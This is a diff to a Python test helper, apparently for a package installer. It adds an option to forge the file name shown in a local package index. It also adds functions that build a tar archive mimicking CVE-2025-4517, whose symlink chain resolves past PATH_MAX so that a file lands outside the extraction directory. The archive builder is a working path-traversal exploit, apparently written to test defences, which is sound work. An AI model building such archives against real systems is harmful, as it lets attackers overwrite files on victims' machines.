@@ -121,18 +121,57 @@ def sha256(path: Path) -> str:
     return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
-def publish(index_root: Path, archive: Path, *, digest: str | None = None) -> None:
-    """Lay out a PEP 503 simple index for `archive` under index_root (simple/ and files/)."""
+def publish(
+    index_root: Path, archive: Path, *, digest: str | None = None, project: str = "vllm", shown_as: str | None = None
+) -> None:
+    """Lay out a PEP 503 simple index for `archive` under index_root (simple/ and files/); the link's text, which a
+    client takes for the file's name, is `shown_as` (the archive's name unless a test forges another)."""
     files = index_root / "files"
     files.mkdir(parents=True, exist_ok=True)
     shutil.copy2(archive, files / archive.name)
-    page = index_root / "simple" / "vllm"
+    page = index_root / "simple" / project
     page.mkdir(parents=True, exist_ok=True)
     digest = digest or sha256(archive)
     (page / "index.html").write_text(
-        f'<!DOCTYPE html><html><body><a href="../../files/{archive.name}#sha256={digest}">{archive.name}</a></body></html>\n',
+        f'<!DOCTYPE html><html><body><a href="../../files/{archive.name}#sha256={digest}">'
+        f"{shown_as or archive.name}</a></body></html>\n",
         encoding="utf-8",
     )
+
+
+def symlink_chain(top: str, outside: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
+    """Tar members shaped like CVE-2025-4517: each link reads as inside the tree (`..` counted as text), but the
+    chain resolves past PATH_MAX, where os.path.realpath stops and the kernel goes on, and the last member is a
+    file written through `escape` into `outside`."""
+    component, steps = "d" * 247, "abcdefghijklmnop"
+    members: list[tuple[tarfile.TarInfo, bytes]] = []
+
+    def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
+        info = tarfile.TarInfo(f"{top}/{name}" if name else top)
+        info.type, info.linkname, info.size = kind, link, len(data)
+        info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
+        members.append((info, data))
+
+    add("", tarfile.DIRTYPE)
+    here = ""
+    for step in steps:
+        add(os.path.join(here, component), tarfile.DIRTYPE)
+        add(os.path.join(here, step), tarfile.SYMTYPE, component)
+        here = os.path.join(here, component)
+    long_link = os.path.join(*steps, "l" * 254)
+    add(long_link, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
+    # 17 `..` read from top/ keep the text inside (top + 16 steps + the long link); resolved, they climb to /.
+    add("escape", tarfile.SYMTYPE, long_link + "/" + "../" * 17 + str(outside).lstrip("/"))
+    add("escape/pwn.txt", tarfile.REGTYPE, data=b"written outside\n")
+    return members
+
+
+def tar_gz(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(path, "w:gz") as tar:
+        for info, data in members:
+            tar.addfile(info, io.BytesIO(data) if data else None)
+    return path
 
 
 @contextmanager
